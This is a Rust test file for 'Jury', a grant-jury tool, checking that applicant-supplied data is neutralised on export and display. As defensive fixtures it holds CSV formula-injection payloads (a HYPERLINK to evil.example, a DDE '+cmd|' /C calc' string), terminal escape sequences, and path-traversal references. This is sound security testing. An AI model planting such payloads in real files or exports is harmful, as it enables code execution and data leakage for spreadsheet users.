//! Content and files written by outsiders (applicants, whoever sends a
//! folder): neutralised in what Jury writes and prints, bounded when read.

use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use std::time::{Duration, Instant};

fn jury() -> Command {
    Command::new(env!("CARGO_BIN_EXE_jury"))
}

fn sample() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("samples/caf06-pdnp-2025")
}

/// A copy of the sample call folder (appel.json, dossiers/, lettres/).
fn copy_sample(to: &Path) -> PathBuf {
    let dest = to.join("appel");
    for sub in ["", "dossiers", "lettres", "pieces"] {
        let from = sample().join(sub);
        std::fs::create_dir_all(dest.join(sub)).expect("mkdir");
        for e in std::fs::read_dir(&from).expect("list") {
            let e = e.expect("entry");
            if e.file_type().expect("type").is_file() {
                std::fs::copy(e.path(), dest.join(sub).join(e.file_name())).expect("copy");
            }
        }
    }
    dest
}

/// Runs `cmd`, killing it after `limit`: a test must not hang. Output goes
/// to files, so a long report cannot fill a pipe and block the child.
fn run_bounded(mut cmd: Command, limit: Duration) -> (Output, Duration) {
    let dir = tempfile::tempdir().expect("tmp");
    let (out_path, err_path) = (dir.path().join("out"), dir.path().join("err"));
    let start = Instant::now();
    let mut child = cmd
        .stdout(std::fs::File::create(&out_path).expect("out"))
        .stderr(std::fs::File::create(&err_path).expect("err"))
        .spawn()
        .expect("spawn");
    let status = loop {
        if let Some(status) = child.try_wait().expect("wait") {
            break status;
        }
        if start.elapsed() > limit {
            let _ = child.kill();
            let _ = child.wait();
            panic!(
                "still running after {limit:?}: {}",
                std::fs::read_to_string(&out_path).unwrap_or_default()
            );
        }
        std::thread::sleep(Duration::from_millis(20));
    };
    let elapsed = start.elapsed();
    let output = Output {
        status,
        stdout: std::fs::read(&out_path).expect("out"),
        stderr: std::fs::read(&err_path).expect("err"),
    };
    (output, elapsed)
}

fn set_field(file: &Path, pointer: &[&str], value: serde_json::Value) {
    let mut v: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(file).expect("read")).expect("json");
    let mut at = &mut v;
    for k in pointer {
        at = at.get_mut(*k).expect("field");
    }
    *at = value;
    std::fs::write(file, serde_json::to_vec_pretty(&v).expect("json")).expect("write");
}

fn imported_db(call: &Path, dir: &Path) -> PathBuf {
    let db = dir.join("j.sqlite");
    let folder = jury::io::import::read_folder(call).expect("folder");
    let mut store = jury::store::Store::open(&db).expect("open");
    folder.import_into(&mut store).expect("import");
    db
}

#[test]
fn csv_export_neutralises_cells_a_spreadsheet_would_run() {
    let dir = tempfile::tempdir().expect("tmp");
    let call = copy_sample(dir.path());
    let file = call.join("dossiers/PDNP06-2025-001.json");
    set_field(
        &file,
        &["structure", "name"],
        "=HYPERLINK(\"http://evil.example/\"&A1;\"Cliquez\")".into(),
    );
    set_field(
        &file,
        &["structure", "address", "city"],
        "+cmd|' /C calc'!A0".into(),
    );
    let db = imported_db(&call, dir.path());
    let out = dir.path().join("export.csv");
    let status = jury()
        .args(["export", "csv", "--db"])
        .arg(&db)
        .arg("--out")
        .arg(&out)
        .output()
        .expect("run");
    assert!(status.status.success(), "{status:?}");
    let bytes = std::fs::read(&out).expect("csv");
    let mut r = csv::ReaderBuilder::new()
        .delimiter(b';')
        .from_reader(&bytes[3..]);
    let mut seen = false;
    for rec in r.records() {
        let rec = rec.expect("record");
        for cell in rec.iter() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "live cell: {cell}"
            );
        }
        if &rec[0] == "PDNP06-2025-001" {
            seen = true;
            assert_eq!(
                &rec[1],
                "'=HYPERLINK(\"http://evil.example/\"&A1;\"Cliquez\")"
            );
            assert_eq!(&rec[2], "'+cmd|' /C calc'!A0");
        }
    }
    assert!(seen);
}

#[test]
fn check_shows_control_characters_instead_of_running_them() {
    let dir = tempfile::tempdir().expect("tmp");
    let call = copy_sample(dir.path());
    let file = call.join("dossiers/PDNP06-2025-001.json");
    set_field(
        &file,
        &["structure", "email"],
        "x\u{1b}[2J\u{7}\u{1b}]0;titre\u{7}\nx.json:1:1: 0 erreur\r".into(),
    );
    let out = jury().arg("check").arg(&call).output().expect("run");
    let text = String::from_utf8(out.stdout).expect("utf8");
    assert!(
        !text.chars().any(|c| c.is_control() && c != '\n'),
        "{text:?}"
    );
    assert!(!text.lines().any(|l| l.starts_with("x.json:")), "{text}");
    assert!(text.contains("\\u{1b}[2J"), "{text}");
}

#[test]
fn a_reference_that_cannot_name_a_file_is_refused_with_its_place() {
    // A reference names letters and bundle files: `..`, `/` or a control
    // character would lead out of their folder or fake the record.
    let dir = tempfile::tempdir().expect("tmp");
    let call = copy_sample(dir.path());
    for (file, reference) in [
        ("PDNP06-2025-001.json", "../../PWN"),
        ("PDNP06-2025-002.json", "x/../../y"),
        ("PDNP06-2025-004.json", "A\u{1b}[2J"),
        ("PDNP06-2025-005.json", ".cache"),
    ] {
        set_field(
            &call.join("dossiers").join(file),
            &["reference"],
            reference.into(),
        );
    }
    let out = jury().arg("check").arg(&call).output().expect("run");
    let text = String::from_utf8(out.stdout).expect("utf8");
    assert_eq!(out.status.code(), Some(1), "{text}");
    for (file, shown) in [
        ("PDNP06-2025-001.json", "../../PWN"),
        ("PDNP06-2025-002.json", "x/../../y"),
        ("PDNP06-2025-004.json", "A\\u{1b}[2J"),
        ("PDNP06-2025-005.json", ".cache"),
    ] {
        assert!(
            text.lines()
                .any(|l| l.starts_with(&format!("dossiers/{file}:"))
                    && l.contains(&format!(
                        "« reference » : « {shown} » inutilisable comme nom de fichier"
                    ))),
            "{file}: {text}"
        );
    }
}

fn mkfifo(path: &Path) {
    match Command::new("mkfifo").arg(path).status() {
        Ok(s) => assert!(s.success(), "mkfifo failed"),
        Err(e) => panic!("mkfifo missing ({e}): install the package coreutils"),
    }
}

#[cfg(unix)]
#[test]
fn a_fifo_a_socket_or_a_link_to_a_device_is_refused_without_blocking() {
    let dir = tempfile::tempdir().expect("tmp");
    let call = copy_sample(dir.path());
    mkfifo(&call.join("dossiers/tube.json"));
    let _socket =
        std::os::unix::net::UnixListener::bind(call.join("dossiers/prise.json")).expect("socket");
    std::os::unix::fs::symlink("/dev/zero", call.join("dossiers/zero.json")).expect("symlink");
    let mut cmd = jury();
    cmd.arg("check").arg(&call);
    let (out, took) = run_bounded(cmd, Duration::from_secs(5));
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(took < Duration::from_secs(1), "{took:?}");
    assert!(text.contains("dossiers/tube.json:1:1:"), "{text}");
    assert!(text.contains("dossiers/zero.json:1:1:"), "{text}");
    for special in ["tube", "prise"] {
        let line = text
            .lines()
            .find(|l| l.contains(&format!("dossiers/{special}.json:1:1:")))
            .unwrap_or_else(|| panic!("{special}: {text}"));
        assert!(line.contains("pas un fichier ordinaire"), "{line}");
    }
}

#[test]
fn many_copies_of_one_reference_are_each_reported() {
    let dir = tempfile::tempdir().expect("tmp");
    let call = copy_sample(dir.path());
    let one: serde_json::Value = serde_json::from_str(
        &std::fs::read_to_string(call.join("dossiers/PDNP06-2025-001.json")).expect("read"),
    )
    .expect("json");
    let many = serde_json::Value::Array(vec![one; 2000]);
    std::fs::write(
        call.join("dossiers/copies.json"),
        serde_json::to_vec_pretty(&many).expect("json"),
    )
    .expect("write");
    let mut cmd = jury();
    cmd.arg("check").arg(&call);
    let (out, _) = run_bounded(cmd, Duration::from_secs(60));
    let text = String::from_utf8_lossy(&out.stdout);
    assert_eq!(text.matches("déjà utilisée").count(), 2000, "{text}");
}

#[test]
fn absurd_numbers_in_the_call_are_refused_with_their_place() {
    for (pointer, expected) in [
        (
            "/criteria/0/weight",
            "la pondération 1e308 dépasse la limite de 1000",
        ),
        (
            "/scale/max",
            "« scale.max » : 1e308 dépasse la limite de 1000",
        ),
    ] {
        let dir = tempfile::tempdir().expect("tmp");
        let call = copy_sample(dir.path());
        let appel = call.join("appel.json");
        let mut v: serde_json::Value =
            serde_json::from_str(&std::fs::read_to_string(&appel).expect("read")).expect("json");
        *v.pointer_mut(pointer).expect("field") = serde_json::json!(1e308);
        // As a person would type it (serde_json writes `1e+308`).
        let text = serde_json::to_string_pretty(&v)
            .expect("json")
            .replace("1e+308", "1e308");
        std::fs::write(&appel, text).expect("write");
        let out = jury().arg("check").arg(&call).output().expect("run");
        let text = String::from_utf8_lossy(&out.stdout);
        assert_eq!(out.status.code(), Some(1), "{text}");
        let line = text
            .lines()
            .find(|l| l.contains(expected))
            .unwrap_or_else(|| panic!("{expected}: {text}"));
        // file:line:col of the number itself.
        let place: Vec<&str> = line.splitn(4, ':').collect();
        assert_eq!(place[0], "appel.json", "{line}");
        assert!(place[1].parse::<usize>().expect("line") > 1, "{line}");
        assert!(place[2].parse::<usize>().expect("col") > 1, "{line}");
    }
}

#[cfg(unix)]
#[test]
fn files_holding_personal_data_are_private_whatever_the_umask() {
    use std::os::unix::fs::PermissionsExt;
    let mode = |p: &Path| std::fs::metadata(p).expect("meta").permissions().mode() & 0o777;
    let dir = tempfile::tempdir().expect("tmp");
    // Created in this process (umask 022 or so): 0600 all the same.
    let db = imported_db(&sample(), dir.path());
    assert_eq!(mode(&db), 0o600, "database");
    // While it is open, SQLite's side files exist: same mode.
    let store = jury::store::Store::open(&db).expect("open");
    store.load_scores().expect("read");
    for side in ["j.sqlite-wal", "j.sqlite-shm"] {
        assert_eq!(mode(&dir.path().join(side)), 0o600, "{side}");
    }
    drop(store);
    // The real binary under umask 000.
    let out_dir = dir.path().join("sorties");
    for (format, name) in [("csv", "export.csv"), ("json", "export.json")] {
        let export = out_dir.join(name);
        let status = Command::new("sh")
            .arg("-c")
            .arg(format!(
                "umask 000; mkdir -p '{d}'; exec '{bin}' export {format} --db '{db}' --out '{export}'",
                d = out_dir.display(),
                bin = env!("CARGO_BIN_EXE_jury"),
                db = db.display(),
                export = export.display(),
            ))
            .status()
            .expect("sh");
        assert!(status.success());
        assert_eq!(mode(&export), 0o600, "{name}");
    }
}

#[cfg(unix)]
#[test]
fn files_an_older_jury_left_readable_are_made_private_when_opened() {
    use std::os::unix::fs::PermissionsExt;
    let mode = |p: &Path| std::fs::metadata(p).expect("meta").permissions().mode() & 0o777;
    let chmod = |p: &Path, m: u32| {
        std::fs::set_permissions(p, std::fs::Permissions::from_mode(m)).expect("chmod")
    };
    let dir = tempfile::tempdir().expect("tmp");
    // The database kept in the user's own folder, which is not Jury's to change.
    let folder = dir.path().join("commission");
    std::fs::create_dir(&folder).expect("folder");
    chmod(&folder, 0o755);
    let db = imported_db(&sample(), &folder);
    let lock = folder.join("j.sqlite.lock");
    let (wal, shm) = (folder.join("j.sqlite-wal"), folder.join("j.sqlite-shm"));
    // As a Jury from before private files left them, -wal and -shm too
    // (kept by a crash).
    for f in [&wal, &shm] {
        std::fs::write(f, b"").expect("side file");
    }
    for f in [&db, &lock, &wal, &shm] {
        chmod(f, 0o644);
    }
    let store = jury::store::Store::open(&db).expect("open");
    store.load_scores().expect("read");
    for f in [&db, &lock, &wal, &shm] {
        assert_eq!(mode(f), 0o600, "{}", f.display());
    }
    drop(store);
    assert_eq!(mode(&folder), 0o755, "the user's folder");
    // The real binary under umask 000, on a database left 0666.
    for f in [&db, &lock] {
        chmod(f, 0o666);
    }
    let export = dir.path().join("export.json");
    let status = Command::new("sh")
        .arg("-c")
        .arg(format!(
            "umask 000; exec '{bin}' export json --db '{db}' --out '{export}'",
            bin = env!("CARGO_BIN_EXE_jury"),
            db = db.display(),
            export = export.display(),
        ))
        .status()
        .expect("sh");
    assert!(status.success());
    for f in [&db, &lock, &export] {
        assert_eq!(mode(f), 0o600, "{}", f.display());
    }
    assert_eq!(mode(&folder), 0o755, "the user's folder");
}
